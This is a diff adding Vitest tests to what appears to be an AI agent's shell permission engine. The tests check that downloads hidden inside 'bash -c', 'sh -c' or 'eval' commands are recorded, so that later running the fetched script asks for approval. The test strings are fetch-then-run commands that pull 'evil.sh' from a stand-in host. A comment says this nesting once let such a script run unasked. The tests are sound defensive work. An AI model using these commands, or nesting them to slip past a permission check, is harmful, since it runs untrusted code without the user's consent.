@@ -2,6 +2,7 @@ import { mkdtemp, realpath } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
+import { downloadExecution } from "../../src/engine/permissions/download-execution.js";
 import { detectDownloads, downloadsUnplaced, recordDownloads } from "../../src/tools/shell/downloads.js";
 
 describe("detectDownloads", () => {
@@ -235,5 +236,28 @@ describe("download targets bash expands", () => {
     await recordDownloads("curl -o out/$F https://x.test/a", ws, facts);
     const real = await realpath(ws);
     expect([...facts.downloadedFiles]).toEqual([`${real}/`, `${real}/out/`]);
+  });
+});
+
+// A download in a script a command runs in turn (`bash -c '…'`, `eval …`) was not recorded at all,
+// so in auto mode a later `bash evil.sh` ran it unasked: its downloads are now the line's.
+describe("downloads of a script run in turn", () => {
+  it.each([
+    ["bash -c 'curl -o evil.sh https://x.test/a'", ["evil.sh"], false],
+    ['sh -c "curl https://x.test/a > evil.sh"', ["evil.sh"], false],
+    ["bash -lc 'wget https://x.test/evil.sh'", ["evil.sh"], false],
+    ["eval curl -o evil.sh https://x.test/a", ["evil.sh"], false],
+    ["bash -c \"sh -c 'curl -o evil.sh https://x.test/a'\"", ["evil.sh"], false],
+    ["bash -c 'curl -o $F https://x.test/a'", ["./"], true],
+  ] as const)("%s → %j", (command, expected, unplaced) => {
+    expect(detectDownloads(command)).toEqual(expected);
+    expect(downloadsUnplaced(command)).toBe(unplaced);
+  });
+
+  it("records it, so running it later asks", async () => {
+    const ws = await mkdtemp(path.join(tmpdir(), "inner-downloads-"));
+    const facts = { downloadedFiles: new Set<string>() };
+    await recordDownloads("bash -c 'curl -o evil.sh https://x.test/a'", ws, facts);
+    expect(downloadExecution("bash evil.sh", facts.downloadedFiles)).toBeDefined();
   });
 });
